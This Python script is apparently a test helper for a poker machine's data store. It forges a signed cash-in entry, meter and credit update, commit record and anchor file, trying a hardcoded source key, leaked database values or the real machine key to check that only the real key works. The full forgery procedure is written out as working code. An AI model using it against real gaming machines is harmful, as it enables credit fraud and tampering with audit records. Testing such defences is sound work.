#!/usr/bin/env python3
"""An attacker's forger for a studpoker database, for tests/store_attacks.sh.

It adds a signed bill of AMOUNT minor units to seat 1: a chained ledger row, the bill_in meter,
the credits, a commit record naming the newest row of every table, and the anchor file, all
signed the way the store signs them, with a key the caller chooses:
  source  the key printed in the release of 2026-11-24's source (what the issue's script used)
  meta    the database's own key_check value read as a key (what the database reveals)
  db_id   the database's id read as a key
  FILE    a machine key file (the positive control: only the machine's own key works)
Written from the store's description of its formats (store_db.c, store_anchor.c), not from the
program's output. Usage: forge_store.py DB ANCHOR KEY AMOUNT
"""
import hashlib
import sqlite3
import struct
import sys
import time

CHAINED = ["ledger", "pool_journal", "rules", "round_start", "round_start_seats",
           "round_actions", "round_end", "round_seats", "round_wagers", "locks",
           "lock_clears", "audit", "checkpoints", "commits"]


def tagged(h, tag, data):
    h.update(bytes([ord(tag)]) + struct.pack("<I", len(data)) + data)


def row_mac(key, table, values, prev=None):
    h = hashlib.blake2b(key=key, digest_size=32)
    tagged(h, "T", table.encode())
    for v in values:
        if v is None:
            tagged(h, "n", b"")
        elif isinstance(v, int):
            h.update(b"i" + struct.pack("<q", v))
        elif isinstance(v, str):
            tagged(h, "t", v.encode())
        else:
            tagged(h, "b", bytes(v))
    if prev is not None:
        tagged(h, "p", prev)
    return h.digest()


def main():
    db_path, anchor_path, key_from, amount = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
    db = sqlite3.connect(db_path)
    meta = dict(db.execute("SELECT key, value FROM meta"))
    db_id = meta["db_id"]
    if key_from == "source":
        machine_key = b"studpoker store row checksum k1".ljust(32, b"\0")
    elif key_from == "meta":
        machine_key = bytes.fromhex(meta["key_check"])
    elif key_from == "db_id":
        machine_key = db_id.encode().ljust(32, b"\0")[:32]
    else:
        lines = open(key_from).read().split("\n")
        machine_key = bytes.fromhex(lines[1])
    row_key = hashlib.blake2b(b"studpoker store rows v1" + db_id.encode(), key=machine_key,
                              digest_size=32).digest()
    now = int(time.time())

    def head(table):
        r = db.execute(f"SELECT rowid, mac FROM {table} ORDER BY rowid DESC LIMIT 1").fetchone()
        return (r[0], r[1]) if r else (0, bytes(32))

    # the bill: a ledger row chained to the newest one
    lid, lmac = head("ledger")
    game = db.execute("SELECT COALESCE(MAX(game), 0) FROM round_start").fetchone()[0]
    row = [lid + 1, now, game, 0, "bill_in", amount]
    db.execute("INSERT INTO ledger VALUES(?,?,?,?,?,?,?)",
               row + [row_mac(row_key, "ledger", row, lmac)])
    # the meter and the credits, as current values
    for table, keycol, k in (("meters", "name", "bill_in"), ("credits", "seat", 0)):
        r = db.execute(f"SELECT value FROM {table} WHERE {keycol}=?", (k,)).fetchone()
        value = (r[0] if r else 0) + amount
        db.execute(f"INSERT INTO {table} VALUES(?,?,?) ON CONFLICT({keycol}) DO UPDATE SET "
                   "value=excluded.value, mac=excluded.mac",
                   (k, value, row_mac(row_key, table, [k, value])))
    # the commit that names the newest row of every table
    h = hashlib.blake2b(digest_size=32)
    for t in CHAINED[:-1]:
        rowid, mac = head(t)
        h.update(struct.pack("<q", rowid) + mac)
    cn, cmac = head("commits")
    crow = [cn + 1, now, h.digest()]
    new_commit_mac = row_mac(row_key, "commits", crow, cmac)
    db.execute("INSERT INTO commits VALUES(?,?,?,?)", crow + [new_commit_mac])
    db.commit()
    db.close()

    # the anchor: both slots say the new commit is the newest
    body_fields = [0, cn + 1, 0, game, lid + 1, 0, now, 1, 0]
    with open(anchor_path, "r+b") as f:
        old = f.read(512)
        seq = max(struct.unpack("<q", old[40:48])[0], struct.unpack("<q", old[296:304])[0])
        slots = b""
        for k in range(2):
            s = seq + 1 + k
            fields = [s] + body_fields[1:]
            body = b"SPANCHR1" + db_id.encode()[:32].ljust(32, b"\0")
            body += b"".join(struct.pack("<q", v) for v in fields)
            body += new_commit_mac + bytes(32)
            mac = hashlib.blake2b(b"studpoker anchor v1" + body, key=row_key,
                                  digest_size=32).digest()
            slots += (body + mac).ljust(256, b"\0")
        # slot k holds the record whose sequence is k modulo 2
        if (seq + 1) % 2 == 1:
            slots = slots[256:] + slots[:256]
        f.seek(0)
        f.write(slots)
    print(f"forged a bill of {amount} with the key from {key_from}")


if __name__ == "__main__":
    main()
